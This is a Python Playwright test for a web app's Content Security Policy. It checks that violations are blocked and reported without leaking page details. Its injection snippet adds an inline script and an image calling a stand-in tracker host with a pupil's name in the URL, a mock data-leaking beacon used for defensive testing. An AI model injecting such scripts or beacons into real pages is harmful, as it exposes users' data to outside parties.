"""The browser suite's CSP check works: a violation on one of our pages reaches the server's report
endpoint, in the form the check looks for, and says nothing of the page beyond directive and origin."""

from __future__ import annotations

import time

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Server, csp_reports_since, server_log_sizes

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = 'Zebedee Quillfeather'";
  document.body.append(script);
  const img = document.createElement("img");
  img.src = "https://tracker.invalid/pixel.gif?pupil=Quillfeather";
  document.body.append(img);
  return window.injected === undefined;
}"""


@pytest.mark.csp_violation_expected
def test_it_reports_an_injected_inline_script_and_a_foreign_image(page: Page, server: Server):
    page.goto("/signin")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    sizes = server_log_sizes()
    assert csp_reports_since(sizes) == []

    blocked = page.evaluate(INJECT)
    assert blocked  # the policy stopped the script from running

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        reports = csp_reports_since(sizes)
        if len(reports) >= 2:
            break
        time.sleep(0.05)
    text = "\n".join(reports)
    assert "csp-violation directive=script-src-elem blocked=inline" in text, text
    assert "csp-violation directive=img-src blocked=https://tracker.invalid" in text, text
    for secret in ("Zebedee", "Quillfeather", "pixel.gif", "/signin"):
        assert secret not in text, secret
